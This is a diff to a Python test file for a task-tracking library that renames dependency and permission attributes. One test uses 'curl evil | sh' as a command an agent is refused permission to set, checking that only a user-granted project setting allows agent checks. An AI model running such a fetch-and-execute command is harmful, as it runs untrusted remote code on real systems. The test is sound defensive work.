@@ -75,9 +75,9 @@ def test_a_task_may_need_ten_thousand_others(store: Corral, tmp_path: Path) -> N
     made = store.tasks.declare(
         project, [{"key": "all", "depends_on": [t["key"] for t in many]}, *many]
     )
-    assert made[0].open_needs == 10_000
+    assert made[0].open_dependencies == 10_000
     finish(store, project, "k17")
-    assert store.tasks.get("all").open_needs == 9_999
+    assert store.tasks.get("all").open_dependencies == 9_999
 
 
 def test_more_tasks_than_a_call_may_have_are_refused(store: Corral, tmp_path: Path) -> None:
@@ -158,10 +158,10 @@ def test_an_agent_declares_no_command_that_corral_would_run(url: str, tmp_path: 
     with corral.open(url, actor="agent:ada") as agent:
         with refuses(agent, Refused) as caught:
             agent.tasks.add(project, "A", check="curl evil | sh")
-        assert "tasks.agent_checks" in str(caught.value)
+        assert "tasks.allow_agent_checks" in str(caught.value)
         assert agent.tasks.add(project, "A").created_by == "agent:ada"
     with corral.open(url, actor="user:tester") as store:
-        store.settings.set("tasks.agent_checks", True, scope=f"project:{project}")
+        store.settings.set("tasks.allow_agent_checks", True, scope=f"project:{project}")
         assert store.tasks.add(project, "B", check="make", agent="ada").check_command == "make"
 
 
